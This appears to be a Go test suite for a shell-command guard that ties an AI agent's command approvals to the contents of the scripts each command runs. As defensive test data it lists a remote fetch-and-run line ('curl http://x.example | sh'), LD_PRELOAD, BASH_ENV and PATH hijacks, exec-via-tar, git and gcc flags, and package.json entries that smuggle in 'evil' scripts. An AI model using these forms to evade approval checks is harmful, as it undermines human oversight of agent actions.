package terms

import (
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/toolcrib/toolcrib"
	"github.com/toolcrib/toolcrib/internal/desk"
	"github.com/toolcrib/toolcrib/internal/shellguard"
)

// TestScriptsOfALine: whatever way a line names a script, what is allowed for
// longer is bound to what that holds, and to nothing that changes in ordinary work.
func TestScriptsOfALine(t *testing.T) {
	dir, _, of := commands(t)
	put := func(name, text string, mode os.FileMode) {
		t.Helper()
		file := filepath.Join(dir, name)
		if err := os.MkdirAll(filepath.Dir(file), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(file, []byte(text), mode); err != nil {
			t.Fatal(err)
		}
		if err := os.Chmod(file, mode); err != nil {
			t.Fatal(err)
		}
	}
	for _, name := range []string{"s.sh", "sub/s.sh", "plain.sh", "tools/x.py", "pkg/__main__.py", "mod.py", "x.js", "lib/h.js", "app/index.js", "x.rb", "p.awk", "M.mk", "main.go", "data.csv", "src/a.js", "tests/t.py", "env.sh"} {
		put(name, "1", 0o644)
	}
	put("s.sh", "#!/bin/sh\n", 0o755)
	put("sub/s.sh", "#!/bin/sh\n", 0o755)
	put("shebang", "#!/bin/sh\n", 0o644)
	put("Makefile", "test:\n", 0o644)
	put("sub/Makefile", "test:\n", 0o644)
	put("package.json", `{"scripts": {"test": "jest"}, "dependencies": {}}`, 0o644)
	put("packages/a/package.json", `{}`, 0o644)
	put("justfile", "x:\n", 0o644)
	if err := os.Symlink("s.sh", filepath.Join(dir, "link.sh")); err != nil {
		t.Fatal(err)
	}
	for line, want := range map[string]string{
		"./s.sh":                           "s.sh",
		"./link.sh":                        "link.sh",
		dir + "/s.sh a":                    "s.sh",
		"sub/../s.sh":                      "s.sh",
		"cd sub && ./s.sh":                 "sub/s.sh",
		"sh plain.sh":                      "plain.sh",
		"sh -x plain.sh data.csv":          "plain.sh",
		"sh -eu -- plain.sh":               "plain.sh",
		"sh --rcfile env.sh plain.sh":      "env.sh plain.sh",
		"bash plain.sh":                    "plain.sh",
		"bash -c ./s.sh":                   "s.sh",
		"bash -lc './s.sh; sh plain.sh'":   "plain.sh s.sh",
		"source env.sh && ./s.sh":          "env.sh s.sh",
		". ./env.sh":                       "env.sh",
		"python3 tools/x.py data.csv":      "tools/x.py",
		"python3 -u tools/x.py --v":        "tools/x.py",
		"python3 -X dev tools/x.py":        "tools/x.py",
		"python3.12 tools/x.py":            "tools/x.py",
		"python3 -m pkg":                   "pkg/__main__.py",
		"python3 -m mod data.csv":          "mod.py",
		"python3 pkg":                      "pkg/__main__.py",
		"node x.js":                        "x.js",
		"node --require ./lib/h.js x.js":   "lib/h.js x.js",
		"node --require=./lib/h.js x.js":   "lib/h.js x.js",
		"node app":                         "app/index.js",
		"ruby x.rb":                        "x.rb",
		"awk -f p.awk data.csv":            "p.awk",
		"go run main.go":                   "main.go",
		"deno run -A x.js":                 "x.js",
		"make test":                        "Makefile",
		"make -f M.mk test":                "M.mk Makefile",
		"make -C sub test":                 "Makefile sub/Makefile",
		"cd sub && make test":              "sub/Makefile",
		"npm test":                         "package.json",
		"cd sub && npm run build":          "package.json",
		"npm test -w packages/a":           "package.json packages/a/package.json",
		"npm test -- -r":                   "package.json",
		"just x":                           "justfile",
		"env A=1 sh plain.sh":              "plain.sh",
		"nohup ./s.sh &":                   "s.sh",
		"timeout 5 ./s.sh":                 "s.sh",
		"echo a | xargs ./s.sh":            "s.sh",
		"find . -name x -exec ./s.sh {} ;": "s.sh",
		"sh < plain.sh":                    "plain.sh",
		"cat plain.sh | sh":                "plain.sh",
		"cat plain.sh | sh -s -- a":        "plain.sh",
		"strace -f sh plain.sh":            "plain.sh",
		"busybox sh plain.sh":              "plain.sh",
		"doas ./s.sh":                      "s.sh",
		"launch shebang":                   "shebang",
		"./s.sh | tee out; sh plain.sh":    "plain.sh s.sh",
		"if ./s.sh; then sh plain.sh; fi":  "plain.sh s.sh",
		"x=$(./s.sh); echo $x":             "s.sh",
		// What changes in ordinary work asks nothing.
		"git push origin main":  "",
		"eslint src/a.js":       "",
		"pytest tests/t.py":     "",
		"go test ./...":         "",
		"touch data.csv":        "",
		"python3 -c 'print(1)'": "",
		"sh -c 'touch x'":       "",
	} {
		terms := of(line)
		var got []string
		for _, f := range terms.Files {
			rel, err := filepath.Rel(dir, f.Path)
			if err != nil {
				t.Fatal(err)
			}
			got = append(got, rel)
		}
		slices.Sort(got)
		if strings.Join(got, " ") != want || terms.Floor {
			t.Errorf("%s: %q, asked every time: %v; want %q", line, got, terms.Floor, want)
		}
	}
	// What is decided while the line runs cannot be remembered.
	for _, line := range []string{`sh "$X"`, `"$X"`, "$(cat f)/s.sh", "python3 $X", "sh *.sh", "~/s.sh", "$PWD/s.sh", "make -f $X", "npm test -ws", "npm test --workspace=a", "yarn workspace a test", "pnpm -r test", "node --require $X x.js"} {
		if !of(line).Floor {
			t.Errorf("%s can be remembered", line)
		}
	}
	var many strings.Builder
	for i := range maxBound + 1 {
		put(fmt.Sprintf("many/%d.sh", i), "#!/bin/sh\n", 0o755)
		fmt.Fprintf(&many, "many/%d.sh; ", i)
	}
	if !of(many.String()).Floor {
		t.Error("of too many scripts some are not looked at")
	}
}

// TestScriptsOfRunners: what a runner starts by its name, or goes by, is bound too.
func TestScriptsOfRunners(t *testing.T) {
	dir, _, of := commands(t)
	for _, name := range []string{"node_modules/.bin/foo", "node_modules/.bin/gulp", ".venv/bin/tool", "gulpfile.js", "Rakefile", "tox.ini", "Procfile", "compose.yaml", "build.xml", "dodo.py", "build.rs", "sub/x.txt", "t.py", "s.sh"} {
		file := filepath.Join(dir, name)
		if err := os.MkdirAll(filepath.Dir(file), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(file, []byte("1"), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	for line, want := range map[string]string{
		"npx foo a":                  "node_modules/.bin/foo",
		"npx --no-install foo":       "node_modules/.bin/foo",
		"cd sub && npx foo":          "node_modules/.bin/foo",
		"bunx foo":                   "node_modules/.bin/foo",
		"npm exec -- foo":            "node_modules/.bin/foo",
		"pnpm exec foo":              "node_modules/.bin/foo",
		"yarn foo":                   "node_modules/.bin/foo",
		"npx gulp build":             "gulpfile.js node_modules/.bin/gulp",
		"gulp build":                 "gulpfile.js",
		"uv run tool":                ".venv/bin/tool",
		"poetry run tool --x":        ".venv/bin/tool",
		"bundle exec rake t":         "Rakefile",
		"tox":                        "tox.ini",
		"foreman start":              "Procfile",
		"docker compose up":          "compose.yaml",
		"docker-compose up -d":       "compose.yaml",
		"ant dist":                   "build.xml",
		"doit":                       "dodo.py",
		"cargo run":                  "build.rs",
		"pipx run t.py":              "t.py",
		"timeout 5 npx foo":          "node_modules/.bin/foo",
		"sudo npx foo":               "node_modules/.bin/foo",
		"systemd-run --user npx foo": "node_modules/.bin/foo",
		"flock l -c 'npx foo'":       "node_modules/.bin/foo",
		"script -qc ./s.sh x":        "s.sh",
		"watch -n 1 ./s.sh":          "s.sh",
		"setsid sh s.sh":             "s.sh",
		"env -S 'sh s.sh'":           "s.sh",
		"unshare -r sh s.sh":         "s.sh",
		"doas sh s.sh":               "s.sh",
		"chroot / sh s.sh":           "s.sh",
	} {
		var got []string
		for _, f := range of(line).Files {
			rel, err := filepath.Rel(dir, f.Path)
			if err != nil {
				t.Fatal(err)
			}
			got = append(got, rel)
		}
		slices.Sort(got)
		if strings.Join(got, " ") != want {
			t.Errorf("%s: %q, not %q", line, got, want)
		}
	}
}

// TestScriptsInEveryForm: an interpreter takes its script in many ways, and what
// is not bound to a script cannot be remembered.
func TestScriptsInEveryForm(t *testing.T) {
	dir, _, of := commands(t)
	for _, name := range []string{"s.sh", "pkg.py", "top/__init__.py", "top/sub/__init__.py", "top/sub/__main__.py", "x.js", "app.js", "dir/package.json", "dir/a.js", "Foo.pm", "x.sed", "x.awk", "tools/s.sh", "M.mk", "x.cmake", "x.php", "x.lua", "{}", "X", "job", "args", "lib/index.js", "sub/Makefile"} {
		if err := os.MkdirAll(filepath.Dir(filepath.Join(dir, name)), 0o755); err != nil {
			t.Fatal(err)
		}
		text := "1"
		if strings.HasSuffix(name, ".json") {
			text = `{"scripts": {}, "main": "a"}`
		}
		if err := os.WriteFile(filepath.Join(dir, name), []byte(text), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	for line, want := range map[string]string{
		"python3 -mpkg":                                   "pkg.py",
		"python3 -um pkg":                                 "pkg.py",
		"python3 -Impkg a":                                "pkg.py",
		"python3 -m top.sub":                              "top/__init__.py top/sub/__init__.py top/sub/__main__.py",
		"python3 -m pytest -q":                            "",
		"python3 -m pkg.tool":                             "pkg.py",
		"ed -s data < job":                                "job",
		"sqlite3 x.db < job":                              "job",
		"vim -e -s < job":                                 "job",
		"cat job | sqlite3 x.db":                          "job",
		"psql < job":                                      "job",
		"sed e < job":                                     "job",
		"sed -n 1e job":                                   "job",
		"awk '{system($0)}' job":                          "job",
		"awk '{system($0)}' < job":                        "job",
		"perl -ne 'system $_' job":                        "job",
		"git -c include.path=" + dir + "/job x":           "job",
		"crontab job":                                     "job",
		"parallel < job":                                  "job",
		"sed s/a/b/ < job":                                "",
		"python3 -c 'import pkg'":                         "pkg.py",
		"python3 -c 'exec(open(\"pkg.py\"))'":             "pkg.py",
		"python3 -W ignore pkg.py":                        "pkg.py",
		"node app":                                        "app.js",
		"node dir":                                        "dir/a.js dir/package.json",
		"node -e 0 -r ./x.js":                             "x.js",
		"node -pe 0 -r ./x.js":                            "x.js",
		"node --inspect app.js":                           "app.js",
		"node --import ./x.js -e 0":                       "x.js",
		"perl -lane 'print 1' data":                       "",
		"perl -MList::Util=sum -e 1":                      "",
		"perl -pi.bak -e 's/a/b/' ./data":                 "",
		"sed -nf x.sed":                                   "x.sed",
		"sed --file=x.sed":                                "x.sed",
		"sed p -f x.sed":                                  "x.sed",
		"sed --file x.sed data":                           "x.sed",
		"sed -i s/a/b/ ./*.md":                            "",
		"awk --file=x.awk":                                "x.awk",
		"awk -vx=1 -fx.awk":                               "x.awk",
		"lua -e 1 x.lua":                                  "x.lua",
		"php -d memory_limit=-1 x.php":                    "x.php",
		"bash -euo pipefail s.sh":                         "s.sh",
		"bash +x s.sh":                                    "s.sh",
		"bash -O extglob s.sh":                            "s.sh",
		"make -sfM.mk":                                    "M.mk",
		"make -sCsub":                                     "sub/Makefile",
		`tar -cf x.tar --checkpoint-action="exec=sh job"`: "job",
		`tar -cf x.tar -I "sh job" x`:                     "job",
		`git -c alias.x="!sh job" x`:                      "job",
		`split --filter="sh job" -l1 in`:                  "job",
		`gcc -wrapper sh,job -c a.c`:                      "job",
		"gcc @args":                                       "args",
		`awk 'BEGIN{system("sh job")}'`:                   "job",
		`sed "1e sh job" data`:                            "job",
		`python3 -c "exec(open('job').read())"`:           "job",
		`perl -e 'do "./job"'`:                            "job",
		`node -e "require('./lib')"`:                      "lib/index.js",
		"make MAKEFILES=M.mk":                             "M.mk",
		"cmake -P x.cmake":                                "x.cmake",
		"find . -name x -exec sed -i s/a/b/ {} +":         "",
		"CI=1 sh s.sh":                                    "s.sh",
		"NODE_ENV=test npm test":                          "",
		"GOOS=linux CGO_ENABLED=0 go build ./...":         "",
		"x=1; sh s.sh":                                    "s.sh",
		"export A=1; sh s.sh":                             "s.sh",
		"for f in a b; do touch $f; done":                 "",
		"cargo test":                                      "",
		"pytest":                                          "",
	} {
		terms := of(line)
		var got []string
		for _, f := range terms.Files {
			rel, err := filepath.Rel(dir, f.Path)
			if err != nil {
				t.Fatal(err)
			}
			got = append(got, rel)
		}
		slices.Sort(got)
		if strings.Join(got, " ") != want || terms.Floor {
			t.Errorf("%s: %q, asked every time: %v; want %q", line, got, terms.Floor, want)
		}
	}
	if err := os.MkdirAll(filepath.Join(dir, "top", "deep"), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink("top/deep", filepath.Join(dir, "lnk")); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(dir, "top", "job"), nil, 0o644); err != nil {
		t.Fatal(err)
	}
	for _, line := range []string{
		"sh lnk/../job", "./lnk/../job", "python3 lnk/../job", "make -C lnk/..", "make -f lnk/../job", "sh < lnk/../job",
		"PATH=. s", "PATH=./bin:$PATH s", "export PATH=./bin:$PATH; s", "BASH_ENV=./s.sh bash -c true", "env BASH_ENV=./s.sh bash -c true", "export BASH_ENV=./s.sh; bash -c true",
		"ENV=./s.sh sh -ic true", "PYTHONPATH=lib python3 -m pkg", "NODE_OPTIONS=--require=./x.js node -e 0", "PERL5OPT=-MFoo perl -e 0", "LD_PRELOAD=./x.so true", "GIT_SSH=./s.sh git push",
		"MAKEFILES=M.mk make", "npm_config_script_shell=./s.sh npm test", "read PATH < x; s", "read -r BASH_ENV < x; bash -c true", "printf -v PATH .; s", "for PATH in .; do s; done", "sudo BASH_ENV=./s.sh bash -c true",
		"hash -p ./s.sh ls; ls", "declare -x BASH_ENV=./s.sh; bash -c true",
		`find tools -name s.sh -exec sh {} \;`, `find tools -exec {} \;`, `find tools -execdir ./s.sh \;`, `find tools -exec env {} \;`, `find tools -exec make -f {} \;`, `find tools -exec sh -c '{}' \;`,
		"find tools | xargs sh", "xargs -a list sh", "echo s.sh | xargs -I{} sh {}", "echo s.sh | xargs -IX sh X", "xargs -a list env", "xargs make < list", "xargs sed p < list", "ls | parallel sh",
		"perl -I. -MFoo -e 0", "perl -I. -e 0 -MFoo", "perl -Mlib=. -e 0", "ruby -e 0 -r ./x", "mawk -We x.awk", "gawk -i x -f x.awk", "php -c x.ini x.php", "lua -l x x.lua", "python3 -X pycache_prefix=x pkg.py", "python3 -W error::pkg.X -c 1",
		"bash -co pipefail s.sh", "bash -c +x ./s.sh", "bash --unheard s.sh", "sh missing.sh", "sh /dev/stdin < s.sh", "sed p *.md", `python3 -c "$X"`, `eval "$(cat s.sh)"`, `sh -c "$(cat s.sh)"`, "cat s*.sh | sh", "make -n | sh", "java -cp . Main",
		"node --run test", "yash -x --foo s.sh", "sh {s,}.sh", "make -f - < M.mk", "make -f /dev/stdin < M.mk", "run-parts tools", "git -c core.hooksPath=tools commit", "bash /dev/fd/3 3< job",
	} {
		if !of(line).Floor {
			t.Errorf("%s can be remembered", line)
		}
	}
}

// TestScriptsAreToldApart: another content is another script, the same content
// again is the same, also behind a link.
func TestScriptsAreToldApart(t *testing.T) {
	dir, _, of := commands(t)
	put := func(name, text string) {
		t.Helper()
		if err := os.WriteFile(filepath.Join(dir, name), []byte(text), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	is := func(line string) []desk.File { return of(line).Files }
	put("s.sh", "#!/bin/sh\necho 1\n")
	put("other.sh", "#!/bin/sh\necho 1\n")
	link := filepath.Join(dir, "link.sh")
	if err := os.Symlink("s.sh", link); err != nil {
		t.Fatal(err)
	}
	first, linked := is("./s.sh"), is("./link.sh")
	put("s.sh", "#!/bin/sh\necho 2\n")
	if slices.Equal(first, is("./s.sh")) || slices.Equal(linked, is("./link.sh")) {
		t.Error("another script is taken for the same")
	}
	put("s.sh", "#!/bin/sh\necho 1\n")
	if !slices.Equal(first, is("./s.sh")) || !slices.Equal(linked, is("./link.sh")) {
		t.Error("the same script is taken for another")
	}
	if err := os.Remove(link); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink("other.sh", link); err != nil {
		t.Fatal(err)
	}
	if slices.Equal(linked, is("./link.sh")) {
		t.Error("a link that leads elsewhere is taken for the same")
	}
	// Of package.json the scripts count.
	put("package.json", `{"scripts": {"test": "jest"}, "dependencies": {"a": "1"}}`)
	npm := is("npm test")
	put("package.json", `{"dependencies": {"a": "2"}, "scripts": { "test": "jest" }}`)
	if !slices.Equal(npm, is("npm test")) {
		t.Error("another dependency is another script")
	}
	put("package.json", `{"scripts": {"test": "jest; ./evil"}}`)
	if slices.Equal(npm, is("npm test")) {
		t.Error("another script in package.json is taken for the same")
	}
	for _, sly := range []string{
		`{"scripts": {"test": "jest"}, "scripts": {"test": "evil"}}`,
		`{"scripts": {"test": "evil"}, "Scripts": {"test": "jest"}}`,
		`{"scripts": {"test": "evil", "test": "jest"}}`,
		"\ufeff" + `{"scripts": {"test": "evil"}}`,
	} {
		put("package.json", sly)
		if slices.Equal(npm, is("npm test")) {
			t.Errorf("%s is taken for the same", sly)
		}
	}
	for _, broken := range []string{"", "[]", `{"scripts": null}`, `{"scripts"`} {
		put("package.json", broken)
		if files := is("npm test"); len(files) != 1 || slices.Equal(npm, files) {
			t.Errorf("%q: %v", broken, files)
		}
	}
}

// FuzzScripts: whatever a line says, looking for its scripts ends, names each
// once, and finds the same twice.
func FuzzScripts(f *testing.F) {
	for _, line := range []string{"./s.sh", "sh -x -- s.sh", "python3 -m a.b", "node --require=x y", "make -C . -f=M", "npm test -w a", "cat s.sh | sh -s", "awk -f", "sh -", "npm -w", "busybox sh", ". .", "-", "go run .", "~/x", "make -"} {
		f.Add(line)
	}
	dir := f.TempDir()
	for _, name := range []string{"s.sh", "Makefile", "package.json", "a"} {
		if err := os.WriteFile(filepath.Join(dir, name), []byte("#!/bin/sh\n"), 0o755); err != nil {
			f.Fatal(err)
		}
	}
	opt := shellguard.SystemOptions(dir)
	opt.Writable = []string{dir}
	f.Fuzz(func(t *testing.T, text string) {
		line := shellguard.Analyze(text, opt)
		files, known := scriptsOf(line, opt.Writable)
		seen := map[string]bool{}
		for _, file := range files {
			if seen[file.Path] || file.Sum == "" || !filepath.IsAbs(file.Path) {
				t.Errorf("%q: %+v", text, files)
			}
			seen[file.Path] = true
		}
		again, still := scriptsOf(shellguard.Analyze(text, opt), opt.Writable)
		if !slices.Equal(files, again) || known != still || len(files) > maxBound {
			t.Errorf("%q: %v, %v and %v, %v", text, files, known, again, still)
		}
	})
}

// TestAnswersForUncertainScripts: where it is not certain which script a line
// runs, an answer is for the files that it can mean as they are, or else for the
// call that waits and no other.
func TestAnswersForUncertainScripts(t *testing.T) {
	dir, _, _ := commands(t)
	put := func(name, text string) {
		t.Helper()
		if err := os.MkdirAll(filepath.Dir(filepath.Join(dir, name)), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(filepath.Join(dir, name), []byte(text), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	opt := shellguard.SystemOptions(dir)
	opt.Writable = []string{dir}
	shell := &shellguard.Guard{AllowShell: true, Bounded: true, Options: opt}
	of := func(line, call string) desk.Terms {
		input, err := json.Marshal(map[string]string{"command": line})
		if err != nil {
			t.Fatal(err)
		}
		return currentTerms(shell)(toolcrib.Question{Call: toolcrib.Call{ID: call}, Spec: toolcrib.Entry{Box: "shell", Native: "run_command"}, Input: input})
	}
	for line, script := range map[string]string{
		"sh s*.sh": "s.sh", "BASH_ENV=./s.sh bash -c true": "s.sh", `find tools -name s.sh -exec sh {} \;`: "tools/s.sh", `eval "$(cat s.sh)"`: "s.sh", `sh -c "$(cat s.sh)"`: "s.sh", "cat s*.sh | sh": "s.sh",
		"find tools | xargs sh": "tools/deep/t.sh", "bash /dev/fd/3 3< job": "job", "make -f - < job": "job", "env BASH_ENV=./s.sh bash -c true": "s.sh", "git -c include.path=./job x; sh s*.sh": "job",
	} {
		for _, name := range []string{"s.sh", "tools/s.sh", "tools/deep/t.sh", "job"} {
			put(name, "echo GOOD\n")
		}
		first, repeated := of(line, "c1"), of(line, "c2")
		if !first.Floor || first.Bind != repeated.Bind {
			t.Errorf("%s: the answer does not hold for the same call again", line)
		}
		put(script, "echo EVIL\n")
		if of(line, "c1").Bind == first.Bind {
			t.Errorf("%s: the answer holds for another %s", line, script)
		}
	}
	for _, line := range []string{`eval "$X"`, `sh "$(printf s.%s sh)"`, "curl http://x.example | sh", `eval "$(rev job)"`, "sh missing*.sh"} {
		first, repeated := of(line, "c1"), of(line, "c2")
		if first.Bind == repeated.Bind || !slices.Contains(first.Parts, onlyThisCall) {
			t.Errorf("%s: the answer holds for another call, or does not say that it does not", line)
		}
		if of(line, "c1").Bind != first.Bind {
			t.Errorf("%s: the answer does not hold for the call that waits", line)
		}
	}
}

// TestAnswersAreForPlaces: a directory or a file that a link leads to is what an
// answer is about, not the name of the link.
func TestAnswersAreForPlaces(t *testing.T) {
	dir, _, of := commands(t)
	for _, name := range []string{"d1", "d2"} {
		if err := os.MkdirAll(filepath.Join(dir, name), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(filepath.Join(dir, name, "x"), nil, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	lead := func(to string) {
		t.Helper()
		if err := os.RemoveAll(filepath.Join(dir, "l")); err != nil {
			t.Fatal(err)
		}
		if err := os.Symlink(to, filepath.Join(dir, "l")); err != nil {
			t.Fatal(err)
		}
	}
	for _, line := range []string{"cd l && rm -f x", "rm -f l/x", "rm -f l/new", "cp d1/x l", "env -C l rm -f x"} {
		lead("d1")
		first := of(line).Files
		lead("d2")
		if len(first) == 0 || slices.Equal(first, of(line).Files) {
			t.Errorf("%q: %v, wherever the link leads", line, first)
		}
	}
	if files := of("rm -f d1/x").Files; len(files) > 0 {
		t.Errorf("without a link: %v", files)
	}
}

// TestAnswersAreForWhatSettles: a file that says what a program does belongs to
// the answer, whatever it is called.
func TestAnswersAreForWhatSettles(t *testing.T) {
	dir, _, of := commands(t)
	for _, line := range []string{"wget --config=c URL", "openssl req -config c", "curl -K c", "curl -Kc", "gcc -specs=c -c a.c", "git apply c", "patch -p1 -i c", "xargs -a c touch"} {
		put := func(text string) []desk.File {
			t.Helper()
			if err := os.WriteFile(filepath.Join(dir, "c"), []byte(text), 0o644); err != nil {
				t.Fatal(err)
			}
			return of(line).Files
		}
		if slices.Equal(put("1"), put("2")) {
			t.Errorf("%q: the file does not count", line)
		}
	}
}

// TestTypedIsBound: what is typed into a job is bound to the scripts that its shell
// would run, and where only another program knows what it means, to the call.
func TestTypedIsBound(t *testing.T) {
	dir, bin, _ := commands(t)
	script := filepath.Join(dir, "x.sh")
	if err := os.WriteFile(script, []byte("1"), 0o644); err != nil {
		t.Fatal(err)
	}
	opt := shellguard.SystemOptions(dir)
	opt.Look, opt.Trusted, opt.Writable = shellguard.LookIn(bin), []string{bin}, []string{dir}
	for _, c := range []struct {
		job, text string
		bound     bool
	}{{"sh", "sh x.sh", true}, {"sh", "cd .; sh x.sh", true}, {"python3 -i", "exec(open('x.sh').read())", false}, {"sh", "sh x.sh; echo hi!", false}} {
		shell := &shellguard.Guard{AllowShell: true, Bounded: true, Options: opt, Job: func(toolcrib.Call, string) (shellguard.Job, bool) {
			return shellguard.Job{Command: c.job, WorkingDir: dir}, true
		}}
		input, err := json.Marshal(map[string]string{"job": "j", "text": c.text})
		if err != nil {
			t.Fatal(err)
		}
		got := currentTerms(shell)(toolcrib.Question{Call: toolcrib.Call{ID: "call-7"}, Spec: toolcrib.Entry{Box: "shell", Native: "command_input"}, Input: input})
		if c.bound && (got.Floor || !slices.ContainsFunc(got.Files, func(f desk.File) bool { return f.Path == script })) {
			t.Errorf("%s into %s: %+v", c.text, c.job, got)
		}
		if !c.bound && (!got.Floor || !strings.Contains(got.Bind, "call-7")) {
			t.Errorf("%s into %s is bound to nothing: %+v", c.text, c.job, got)
		}
	}
}
